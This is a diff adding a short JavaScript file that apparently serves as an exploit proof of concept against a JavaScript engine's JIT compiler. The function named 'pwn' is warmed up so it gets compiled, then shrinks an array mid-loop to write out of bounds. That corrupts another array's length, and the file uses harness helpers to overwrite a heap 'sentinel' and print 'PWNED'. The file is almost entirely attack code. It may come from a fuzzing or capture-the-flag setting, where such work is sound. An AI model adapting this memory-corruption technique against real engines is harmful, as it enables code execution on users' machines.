@@ -1,0 +1,35 @@
+function pwn(a, big, late) {
+  for (var mz922 = 0; mz922 < 39; mz922 = mz922 + 1) {
+    var n = a.length;
+  }
+  var t = 0;
+  for (var i = 0; i < n; (i = i + 1) - 1) {
+    if (late == 1) {
+      if (i == 0) {
+        a.length = 1;
+        w = [3, 3, 3, 3];
+      }
+    }
+    a[i] = big;
+    t = t + 1;
+  }
+  return t;
+}
+
+var w = [0];
+for (var k = 0; k < 60; (k = k + 1) - 1) {
+  var warm = [9, 9, 9, 9, 9, 9, 9, 9, 9, 9];
+  pwn(warm, 7, 0);
+}
+for (var k = 0; k < 60; (k = k + 1) - 1) {
+  var warm = [9, 9, 9, 9, 9, 9, 9, 9, 9, 9];
+  pwn(warm, 7, 0);
+}
+var prey = [9, 9, 9, 9, 9, 9, 9, 9, 9, 9];
+pwn(prey, 1073741824, 1);
+if (w.length > 100000) {
+  var off = __heapSize() - 2 - (__arrayBase(w) + 2);
+  w[off] = 1337;
+  print("PWNED sentinel overwritten");
+}
+pwn([1, 1, 1], 7, 0);
